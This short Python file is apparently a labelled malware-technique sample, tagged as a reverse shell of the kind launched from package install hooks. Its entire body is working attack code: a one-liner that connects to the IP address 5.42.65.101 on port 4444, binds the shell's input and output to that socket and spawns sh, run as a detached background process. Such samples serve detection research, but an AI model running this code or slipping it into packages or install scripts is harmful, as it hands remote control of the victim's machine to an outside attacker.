# technique: python -c reverse shell one-liner spawned detached
# class: reverse-shell
# source: Checkmarx, one-liner shells launched from install hooks
# declares: subprocess
import subprocess
import sys

ONE = "import socket,os,pty;s=socket.socket();s.connect(('5.42.65.101',4444));[os.dup2(s.fileno(),f) for f in(0,1,2)];pty.spawn('sh')"


def start():
    subprocess.Popen([sys.executable, "-c", ONE], close_fds=True, start_new_session=True)
